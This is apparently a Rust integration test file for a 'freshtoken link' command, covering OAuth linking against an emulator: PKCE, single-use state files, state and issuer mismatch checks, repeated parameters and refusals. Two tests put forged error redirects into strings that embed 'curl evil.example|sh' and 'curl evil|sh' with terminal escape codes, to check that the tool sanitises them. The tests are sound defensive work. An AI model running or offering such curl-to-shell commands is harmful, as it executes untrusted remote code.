//! `freshtoken link` against the emulator's (self-approving) authorize
//! endpoint: both steps, the code's sources, state checks, one-step mode.

use crate::support::{authorize, freshtoken, query_param, Cli, Env, LINK_START, REDIRECT_URI};
use freshtoken_emulator::{Emulator, Options};
use std::io::Write;
use std::path::{Path, PathBuf};

/// Starts a link; returns the authorization URL.
fn start(env: &Env, state_file: &Path, extra: &[&str]) -> String {
    let run = env
        .with_creds(&LINK_START)
        .args(extra)
        .args(["--state-file".as_ref(), state_file.as_os_str()])
        .run()
        .ok();
    run.stdout.trim().to_owned()
}

#[test]
fn two_steps_store_the_session_and_use_the_state_file_once() {
    let env = Env::new("link-two-steps");
    let state_file = env.scratch.path("link.json");
    let url = start(&env, &state_file, &["--param", "provider=fnb"]);
    assert!(url.starts_with(&env.emu.authorization_endpoint()), "{url}");
    assert_eq!(
        query_param(&url, "code_challenge_method").as_deref(),
        Some("S256")
    );
    assert_eq!(
        query_param(&url, "scope").as_deref(),
        Some("accounts offline_access")
    );
    assert_eq!(query_param(&url, "provider").as_deref(), Some("fnb"));
    let saved: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&state_file).unwrap()).unwrap();
    assert_eq!(
        saved["state"].as_str(),
        query_param(&url, "state").as_deref()
    );
    assert_eq!(
        saved["nonce"].as_str(),
        query_param(&url, "nonce").as_deref()
    );
    let verifier = saved["code_verifier"].as_str().unwrap();
    assert_eq!(
        query_param(&url, "code_challenge").unwrap(),
        freshtoken::code_challenge(verifier)
    );
    assert!(!url.contains(verifier));
    #[cfg(unix)]
    assert!(crate::support::is_private(&state_file));

    let redirect = authorize(&url);
    let run = env
        .full(&["link", "--code-stdin"], "user-42")
        .args(["--state-file".as_ref(), state_file.as_os_str()])
        .stdin(format!("{redirect}\n"))
        .run()
        .ok();
    assert!(run.stdout.starts_with("Linked user-42."), "{}", run.stdout);
    let record = env.record("user-42").expect("the session is stored");
    assert!(record.refresh_token.is_some() && record.access_token.is_some());
    assert_eq!(record.scope.as_deref(), Some("accounts offline_access"));
    assert!(env.api_accepts(&env.access_token("user-42")));
    #[cfg(unix)]
    assert!(crate::support::is_private(&env.record_path("user-42")));
    assert!(!state_file.exists(), "the verifier is gone once used");
    assert_eq!(env.emu.counters().code_exchanges, 1);
    // The code never shows in the output.
    let code = query_param(&redirect, "code").unwrap();
    assert!(!run.all().contains(&code));

    // The state file is single use: finishing again is a config error.
    env.full(&["link", "--code-stdin"], "user-42")
        .args(["--state-file".as_ref(), state_file.as_os_str()])
        .stdin(redirect)
        .run()
        .exits(3);
    assert_eq!(env.emu.counters().code_exchanges, 1);
}

#[test]
fn the_code_may_be_bare_with_state_or_come_from_the_environment() {
    let env = Env::new("link-sources");
    // A bare code on stdin, the state as an option; JSON both ways.
    let state_file = env.scratch.path("a.json");
    // FRESHTOKEN_STORE (set for `token`) does not turn a start into one step.
    let started = env
        .with_creds(&["--json", "link", "--redirect-uri", REDIRECT_URI])
        .args(["--state-file".as_ref(), state_file.as_os_str()])
        .env("FRESHTOKEN_STORE", &env.store)
        .run()
        .ok()
        .json();
    let url = started["authorization_url"].as_str().unwrap();
    let state = started["state"].as_str().unwrap();
    assert_eq!(query_param(url, "state").as_deref(), Some(state));
    assert!(started.get("code_verifier").is_none());
    let redirect = authorize(url);
    let linked = env
        .full(
            &["--json", "link", "--code-stdin", "--state", state],
            "alice",
        )
        .args(["--state-file".as_ref(), state_file.as_os_str()])
        .stdin(query_param(&redirect, "code").unwrap())
        .run()
        .ok()
        .json();
    assert_eq!(linked["key"], "alice");
    assert_eq!(linked["linked"], true);
    assert!(linked["refresh_expires_at_ms"].as_u64().unwrap() > crate::support::now_ms());

    // The whole redirect URL from FRESHTOKEN_CODE, nothing on the command line.
    let state_file = env.scratch.path("b.json");
    let redirect = authorize(&start(&env, &state_file, &[]));
    env.full(&["-q", "link", "--code-env"], "bob")
        .args(["--state-file".as_ref(), state_file.as_os_str()])
        .env("FRESHTOKEN_CODE", &redirect)
        .run()
        .ok();
    assert!(env.record("bob").is_some());
    assert_eq!(env.emu.counters().code_exchanges, 2);
}

#[test]
fn a_foreign_state_or_an_error_redirect_exchanges_nothing() {
    let env = Env::new("link-refusals");
    let state_file = env.scratch.path("link.json");
    let url = start(&env, &state_file, &[]);
    let redirect = authorize(&url);
    let code = query_param(&redirect, "code").unwrap();

    // A redirect with another state: refused as a mismatch (13).
    let mismatched = |query: String| {
        let run = env
            .full(&["--json", "link", "--code-stdin"], "eve")
            .args(["--state-file".as_ref(), state_file.as_os_str()])
            .stdin(format!("{REDIRECT_URI}?{query}&state=someone-elses"))
            .run()
            .exits(13);
        assert_eq!(run.json()["error"]["code"], "state_mismatch");
    };
    mismatched(format!("code={code}"));
    let run = env
        .full(&["link", "--code-stdin", "--state", "someone-elses"], "eve")
        .args(["--state-file".as_ref(), state_file.as_os_str()])
        .stdin(code.clone())
        .run()
        .exits(13);
    assert!(run.stderr.contains("state"), "{}", run.stderr);
    // A bare code without its state cannot be checked: a usage error.
    env.full(&["link", "--code-stdin"], "eve")
        .args(["--state-file".as_ref(), state_file.as_os_str()])
        .stdin(code)
        .run()
        .exits(2);

    // An error redirect with another state is a mismatch too, not the
    // provider's answer (RFC 6749 4.1.2.1).
    mismatched("error=access_denied".to_owned());

    // The user said no: the server's error, exit status of `oauth` (6).
    let state = query_param(&url, "state").unwrap();
    let denied = format!(
        "{REDIRECT_URI}?error=access_denied&error_description=the+user+declined&state={state}"
    );
    let run = env
        .full(&["--json", "link", "--code-stdin"], "eve")
        .args(["--state-file".as_ref(), state_file.as_os_str()])
        .stdin(denied)
        .run()
        .exits(6);
    assert_eq!(run.json()["error"]["oauth_error"], "access_denied");
    assert_eq!(run.json()["error"]["description"], "the user declined");

    assert_eq!(env.emu.counters().code_exchanges, 0);
    assert!(env.record("eve").is_none());
    assert!(
        state_file.exists(),
        "a refused answer keeps the state for the real one"
    );
    // The real answer still links.
    env.full(&["-q", "link", "--code-stdin"], "eve")
        .args(["--state-file".as_ref(), state_file.as_os_str()])
        .stdin(redirect)
        .run()
        .ok();
    assert!(env.record("eve").is_some());
}

#[test]
fn one_step_prints_the_url_then_reads_the_redirect() {
    let env = Env::new("link-one-step");
    let (mut child, redirect) = env.one_step_link("carol", None);
    let mut stdin = child.stdin.take().unwrap();
    writeln!(stdin, "{redirect}").unwrap();
    drop(stdin);
    let status = child.wait().unwrap();
    assert!(status.success(), "one-step link exits 0");
    assert!(env.record("carol").is_some());
}

/// The names in the scratch directory beginning with `name` (the state
/// file, and any claimed file of it).
fn state_files(env: &Env, name: &str) -> Vec<String> {
    std::fs::read_dir(&env.scratch.dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with(name))
        .collect()
}

#[test]
fn a_one_step_link_whose_state_file_was_finished_meanwhile_sends_nothing() {
    let env = Env::new("link-one-step-claimed");
    let state_file = env.scratch.path("link.json");
    let (mut child, redirect) = env.one_step_link("first", Some(&state_file));
    // While the one-step run waits at its prompt, the link is finished
    // from its state file.
    env.full(&["-q", "link", "--code-stdin"], "second")
        .args(["--state-file".as_ref(), state_file.as_os_str()])
        .stdin(redirect.clone())
        .run()
        .ok();
    let refresh = env.refresh_token("second");

    // The code is spent: sent again, the server would revoke that session.
    writeln!(child.stdin.take().unwrap(), "{redirect}").unwrap();
    let output = child.wait_with_output().unwrap();
    assert_eq!(output.status.code(), Some(3), "config");
    assert_eq!(
        env.emu.counters().by_grant.get("authorization_code"),
        Some(&1),
        "the code was sent once"
    );
    assert_eq!(
        env.emu.refresh_token_state(&refresh),
        freshtoken_emulator::TokenState::Active
    );
    assert!(env.record("first").is_none());
}

#[test]
fn a_one_step_link_keeps_its_state_file_until_the_code_is_sent() {
    let env = Env::new("link-one-step-state-file");
    let state_file = env.scratch.path("link.json");
    let (mut child, redirect) = env.one_step_link("carol", Some(&state_file));
    let state = query_param(&redirect, "state").unwrap();
    // Not this link's answer: nothing is sent, and the link can still be
    // finished from its state file.
    writeln!(
        child.stdin.take().unwrap(),
        "{REDIRECT_URI}?code=forged&state=someone-elses"
    )
    .unwrap();
    assert_eq!(child.wait().unwrap().code(), Some(13), "state_mismatch");
    assert_eq!(state_files(&env, "link.json"), ["link.json"]);
    assert_eq!(env.emu.counters().by_grant.get("authorization_code"), None);
    env.full(&["-q", "link", "--code-stdin", "--state", &state], "carol")
        .args(["--state-file".as_ref(), state_file.as_os_str()])
        .stdin(query_param(&redirect, "code").unwrap())
        .run()
        .ok();
    assert!(env.record("carol").is_some());

    // Linked in one step: the state file is used up.
    let state_file = env.scratch.path("again.json");
    let (mut child, redirect) = env.one_step_link("carol", Some(&state_file));
    writeln!(child.stdin.take().unwrap(), "{redirect}").unwrap();
    assert!(child.wait().unwrap().success());
    assert!(state_files(&env, "again.json").is_empty());
    assert_eq!(env.emu.counters().code_exchanges, 2);
}

#[test]
fn linking_again_replaces_a_dead_session_and_the_next_token_comes_from_the_new_link() {
    let env = Env::new("link-again");
    env.link("user-42");
    let first = env.refresh_token("user-42");
    let mut dead = env.record("user-42").unwrap();
    dead.access_token = None;
    dead.reauth = Some(freshtoken::ReauthReason::InvalidGrant);
    env.write_record("user-42", &dead);
    env.full(&["token"], "user-42").run().exits(4);

    env.link("user-42"); // the user re-links: the stored record moved on
    let record = env.record("user-42").unwrap();
    assert!(record.reauth.is_none(), "the new link is alive");
    assert!(
        env.refresh_token("user-42") != first,
        "and holds the new link's refresh token"
    );
    let token = env.full(&["-q", "token"], "user-42").run().ok().stdout;
    assert!(env.api_accepts(token.trim()));
}

#[test]
fn a_record_that_is_not_text_is_a_storage_error_and_linking_again_replaces_it() {
    let env = Env::new("link-over-garbage");
    std::fs::create_dir_all(&env.store).unwrap();
    std::fs::write(env.record_path("user-42"), [0xff, 0xfe, b'{', 0x80]).unwrap();
    let run = env.full(&["token"], "user-42").run().exits(11);
    assert!(run.stderr.contains("storage"), "{}", run.stderr);

    env.link("user-42");
    assert!(env.record("user-42").unwrap().reauth.is_none());
    let token = env.full(&["-q", "token"], "user-42").run().ok().stdout;
    assert!(env.api_accepts(token.trim()));
}

#[test]
fn two_runs_finishing_one_link_send_its_code_once() {
    let env = Env::new("link-twice");
    let state_file = env.scratch.path("link.json");
    let redirect = authorize(&start(&env, &state_file, &[]));
    // The first run's exchange is held at the server while the second
    // (a redirect handler called twice, another key: no shared lock) runs.
    env.emu
        .push_fault(freshtoken_emulator::Fault::hold().for_grant("authorization_code"));
    let mut first = env
        .full(&["--json", "link", "--code-stdin"], "first")
        .args(["--state-file".as_ref(), state_file.as_os_str()])
        .spawn();
    writeln!(first.stdin.take().unwrap(), "{redirect}").unwrap();
    env.emu.wait_held(1);

    let second = env
        .full(&["--json", "link", "--code-stdin"], "second")
        .args(["--state-file".as_ref(), state_file.as_os_str()])
        .stdin(format!("{redirect}\n"))
        .run()
        .exits(3);
    assert_eq!(second.json()["error"]["code"], "config");
    let message = second.json()["error"]["message"].to_string();
    assert!(
        message.contains("claimed by another `link` run"),
        "{message}"
    );
    assert_eq!(
        env.emu.counters().by_grant.get("authorization_code"),
        Some(&1),
        "the second run sent nothing"
    );

    env.emu.release_held();
    let output = first.wait_with_output().unwrap();
    assert!(output.status.success(), "exit status {}", output.status);
    let counters = env.emu.counters();
    assert_eq!(counters.by_grant.get("authorization_code"), Some(&1));
    assert_eq!((counters.code_exchanges, counters.invalid_grant), (1, 0));
    // The session the first run stored is alive at the server.
    assert!(env.api_accepts(&env.access_token("first")));
    assert_eq!(
        env.emu.refresh_token_state(&env.refresh_token("first")),
        freshtoken_emulator::TokenState::Active
    );
    assert!(env.record("second").is_none());
    let left: Vec<_> = std::fs::read_dir(&env.scratch.dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|name| name.starts_with("link.json"))
        .collect();
    assert!(left.is_empty(), "the used state is gone: {left:?}");
}

/// `freshtoken --json link --code-stdin` finishing `state_file` for `key`
/// with `input` on stdin.
fn finish(env: &Env, state_file: &Path, key: &str, input: &str) -> Cli {
    env.full(&["--json", "link", "--code-stdin"], key)
        .args(["--state-file".as_ref(), state_file.as_os_str()])
        .stdin(format!("{input}\n"))
}

/// Token requests the emulator `emu` has seen.
fn token_requests(emu: &Emulator) -> u64 {
    emu.counters().token_requests
}

#[test]
fn finishing_with_another_provider_sends_nothing_there_or_anywhere() {
    let env = Env::new("link-other-provider");
    // Another provider, with the same client id and secret.
    let other = Emulator::start(Options::default()).expect("emulator starts");
    let state_file = env.scratch.path("link.json");
    let redirect = authorize(&start(&env, &state_file, &[]));
    let saved: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&state_file).unwrap()).unwrap();
    assert_eq!(saved["token_endpoint"], env.emu.token_endpoint());
    assert_eq!(
        saved["authorization_endpoint"],
        env.emu.authorization_endpoint()
    );

    let refused = |cli: Cli, field: &str| {
        let run = cli.run().exits(3);
        let error = &run.json()["error"];
        assert_eq!(error["code"], "config");
        let message = error["message"].as_str().unwrap();
        assert!(message.contains(field), "{message}");
        assert!(!message.contains(&other.base_url()), "{message}");
        assert!(!run.all().contains(crate::support::CLIENT_SECRET));
    };
    // The finishing shell's FRESHTOKEN_TOKEN_ENDPOINT, or the option.
    refused(
        finish(&env, &state_file, "u1", &redirect)
            .env("FRESHTOKEN_TOKEN_ENDPOINT", other.token_endpoint()),
        "token_endpoint",
    );
    refused(
        finish(&env, &state_file, "u1", &redirect)
            .args(["--token-endpoint", &other.token_endpoint()]),
        "token_endpoint",
    );
    // Another credentials file (the same client at another provider).
    let other_creds = env.scratch.write_private(
        "other.json",
        &crate::support::credentials(
            crate::support::CLIENT_ID,
            Some(crate::support::CLIENT_SECRET),
            &other.token_endpoint(),
        ),
    );
    refused(
        env.on(&["--json", "link", "--code-stdin"], "u1")
            .args(["--credentials".as_ref(), other_creds.as_os_str()])
            .args(["--state-file".as_ref(), state_file.as_os_str()])
            .stdin(format!("{redirect}\n")),
        "token_endpoint",
    );
    // Another authorization endpoint (the code came from elsewhere).
    refused(
        finish(&env, &state_file, "u1", &redirect)
            .args(["--authorization-endpoint", &other.authorization_endpoint()]),
        "authorization_endpoint",
    );
    // An issuer the link did not start from (its discovered endpoints).
    refused(
        finish(&env, &state_file, "u1", &redirect).args(["--issuer", &other.base_url()]),
        "endpoint",
    );

    assert_eq!(
        token_requests(&other),
        0,
        "nothing went to the other provider"
    );
    assert_eq!(token_requests(&env.emu), 0, "nor anywhere else");
    assert_eq!(state_files(&env, "link.json"), ["link.json"]);
    // The link still finishes where it started.
    finish(&env, &state_file, "u1", &redirect).run().ok();
    assert_eq!(env.emu.counters().code_exchanges, 1);
    assert!(env.record("u1").is_some());
}

#[test]
fn a_state_file_without_its_provider_is_refused_with_nothing_sent() {
    let env = Env::new("link-old-state-file");
    let state_file = env.scratch.path("link.json");
    let redirect = authorize(&start(&env, &state_file, &[]));
    // As the previous version wrote it: no endpoints, no issuer.
    let mut saved: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&state_file).unwrap()).unwrap();
    let saved_object = saved.as_object_mut().unwrap();
    for name in ["token_endpoint", "authorization_endpoint", "issuer"] {
        saved_object.remove(name);
    }
    saved_object.insert("schema".into(), "freshtoken.link/1".into());
    std::fs::write(&state_file, saved.to_string()).unwrap();

    let run = finish(&env, &state_file, "u1", &redirect).run().exits(3);
    let message = run.json()["error"]["message"].as_str().unwrap().to_owned();
    assert!(message.contains("start the link again"), "{message}");
    assert_eq!(token_requests(&env.emu), 0);
    assert!(env.record("u1").is_none());
}

/// A credentials file without a token endpoint: the endpoints come from
/// the emulator's discovery document with `--issuer`.
fn discovering(env: &Env, args: &[&str]) -> (Cli, PathBuf) {
    let creds = env.scratch.write_private(
        "discovering.json",
        &serde_json::json!({
            "clientId": crate::support::CLIENT_ID,
            "clientSecret": crate::support::CLIENT_SECRET,
            "slidingRefreshTokenLifetime": 31_536_000,
        })
        .to_string(),
    );
    let state_file = env.scratch.path("link.json");
    let cli = freshtoken(args)
        .args(["--credentials".as_ref(), creds.as_os_str()])
        .args(["--issuer", &env.emu.base_url()])
        .args(["--state-file".as_ref(), state_file.as_os_str()]);
    (cli, state_file)
}

#[test]
fn a_redirect_naming_another_issuer_sends_nothing() {
    let env = Env::new("link-iss");
    let (cli, state_file) = discovering(&env, &LINK_START);
    let redirect = authorize(cli.run().ok().stdout.trim());
    let saved: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&state_file).unwrap()).unwrap();
    assert_eq!(saved["issuer"], env.emu.base_url());
    let finishing = |input: String| {
        let (cli, _) = discovering(&env, &["--json", "link", "--code-stdin"]);
        cli.args(["--store".as_ref(), env.store.as_os_str()])
            .args(["--key", "u1"])
            .stdin(format!("{input}\n"))
            .run()
    };
    // The emulator names itself in its redirects, as its discovery
    // document announces (RFC 9207).
    assert_eq!(query_param(&redirect, "iss"), Some(env.emu.base_url()));
    let code = query_param(&redirect, "code").unwrap();
    let state = query_param(&redirect, "state").unwrap();
    let iss = |issuer: &str| {
        let issuer: String = form_urlencoded::byte_serialize(issuer.as_bytes()).collect();
        format!("{REDIRECT_URI}?code={code}&state={state}&iss={issuer}")
    };

    // RFC 9207: the code came from another provider (a mix-up).
    for forged in [
        iss("https://as-b.example"),
        iss(&format!("{}/", env.emu.base_url())),
    ] {
        let run = finishing(forged).exits(13);
        assert_eq!(run.json()["error"]["code"], "state_mismatch");
    }
    // An error redirect from another provider is no answer either.
    let run = finishing(format!(
        "{REDIRECT_URI}?error=access_denied&state={state}&iss=https%3A%2F%2Fas-b.example"
    ))
    .exits(13);
    assert_eq!(run.json()["error"]["code"], "state_mismatch");
    // A provider that announces `iss` sends it with every answer: a
    // redirect (or an error redirect) without it is not its answer, and a
    // bare code cannot show it.
    for unnamed in [
        format!("{REDIRECT_URI}?code={code}&state={state}"),
        format!("{REDIRECT_URI}?error=access_denied&state={state}"),
    ] {
        let run = finishing(unnamed).exits(13);
        assert_eq!(run.json()["error"]["code"], "state_mismatch");
    }
    assert_eq!(token_requests(&env.emu), 0);
    assert_eq!(state_files(&env, "link.json"), ["link.json"]);

    // The issuer the link started with: linked.
    finishing(iss(&env.emu.base_url())).ok();
    assert_eq!(env.emu.counters().code_exchanges, 1);
    assert!(env.record("u1").is_some());
}

#[test]
fn a_redirect_that_repeats_a_parameter_sends_nothing() {
    let env = Env::new("link-repeated");
    let state_file = env.scratch.path("link.json");
    let redirect = authorize(&start(&env, &state_file, &[]));
    let code = query_param(&redirect, "code").unwrap();
    let state = query_param(&redirect, "state").unwrap();
    // Each would have exchanged the genuine code (the last value won).
    for query in [
        format!("code=forged&state={state}&code={code}"),
        format!("code={code}&state=forged&state={state}"),
        format!("code={code}&st%61te={state}&state={state}"),
        format!("code={code}&state={state}&iss=x&iss=x"),
        format!("code={code}&state={state}&error_description=a&error_description=b"),
        format!("error=access_denied&error=access_denied&code={code}&state={state}"),
    ] {
        let run = finish(&env, &state_file, "u1", &format!("{REDIRECT_URI}?{query}"))
            .run()
            .exits(13);
        assert_eq!(run.json()["error"]["code"], "state_mismatch", "{query}");
        assert!(!run.all().contains(&code));
    }
    assert_eq!(token_requests(&env.emu), 0);
    assert!(env.record("u1").is_none());
    // The state file is kept for the genuine redirect.
    assert_eq!(state_files(&env, "link.json"), ["link.json"]);
    finish(&env, &state_file, "u1", &redirect).run().ok();
    assert_eq!(env.emu.counters().code_exchanges, 1);
}

#[test]
fn an_error_redirect_without_its_state_is_a_mismatch() {
    let env = Env::new("link-error-no-state");
    let state_file = env.scratch.path("link.json");
    let redirect = authorize(&start(&env, &state_file, &[]));
    let forged = format!(
        "{REDIRECT_URI}?error=access_denied&error_description=Session+expired.%0aRun%3a+curl+evil.example%7csh"
    );
    let run = finish(&env, &state_file, "u1", &forged).run().exits(13);
    assert_eq!(run.json()["error"]["code"], "state_mismatch");
    assert!(run.json()["error"].get("description").is_none());
    let run = env
        .full(&["link", "--code-stdin"], "u1")
        .args(["--state-file".as_ref(), state_file.as_os_str()])
        .stdin(forged)
        .run()
        .exits(13);
    assert!(!run.stderr.contains("evil"), "{}", run.stderr);
    assert_eq!(token_requests(&env.emu), 0);
    assert_eq!(state_files(&env, "link.json"), ["link.json"]);
    finish(&env, &state_file, "u1", &redirect).run().ok();
}

#[test]
fn an_error_redirect_prints_no_control_characters() {
    let env = Env::new("link-error-printed");
    let state_file = env.scratch.path("link.json");
    let url = start(&env, &state_file, &[]);
    let state = query_param(&url, "state").unwrap();
    let answer = format!(
        "{REDIRECT_URI}?error=access_denied%1b%5b2J&error_description=Session+expired.%0d%0aRun%3a+curl+evil%7csh+%1b%5b8m%c2%9b2J&state={state}"
    );
    let run = env
        .full(&["link", "--code-stdin"], "u1")
        .args(["--state-file".as_ref(), state_file.as_os_str()])
        .stdin(answer.clone())
        .run()
        .exits(6);
    // One line: the message, cleaned, and its line break.
    let message = run.stderr.strip_suffix('\n').unwrap();
    assert!(!message.chars().any(char::is_control), "{message:?}");
    assert!(
        message.contains("Session expired.  Run: curl evil|sh"),
        "{message:?}"
    );

    let run = finish(&env, &state_file, "u1", &answer).run().exits(6);
    let error = &run.json()["error"];
    assert_eq!(error["oauth_error"], "(not an RFC 6749 error code)");
    let description = error["description"].as_str().unwrap();
    assert!(
        !description.chars().any(char::is_control),
        "{description:?}"
    );
    let message = error["message"].as_str().unwrap();
    assert!(!message.chars().any(char::is_control), "{message:?}");
    assert_eq!(token_requests(&env.emu), 0);
}
